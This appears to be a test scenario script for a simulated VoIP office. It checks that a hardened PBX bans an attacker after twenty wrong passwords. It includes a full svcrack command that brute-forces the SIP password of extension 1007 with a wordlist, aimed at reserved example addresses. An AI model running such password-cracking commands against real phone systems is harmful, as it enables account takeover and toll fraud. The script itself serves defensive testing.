# svcrack tries passwords at a server that no longer answers after twenty wrong ones. Somebody inside
# mistypes a password once.
open_office -A WITH_HARDENED -A WITH_BAN
add_attacker cracker 198.51.100.90
start_office_capture
keep_alive 11
office_day 105 75
at 7 new_phone 1011
words | tail -n 70 | grep -v "^$WEAK_PASSWORD\$" >"$scratch/words"
at 12 attack A1 password_cracking cracker 5060 "svcrack tries words as passwords of 1007 and gets no answer after the twentieth." \
    "$(version_of svcrack)" svcrack -b 198.51.100.90 -x 198.51.100.90 -P 5060 -t 0.4 --maximumtime=20 -u "$WEAK" -d "$scratch/words" 192.0.2.1
play
wait_for A1
close_office
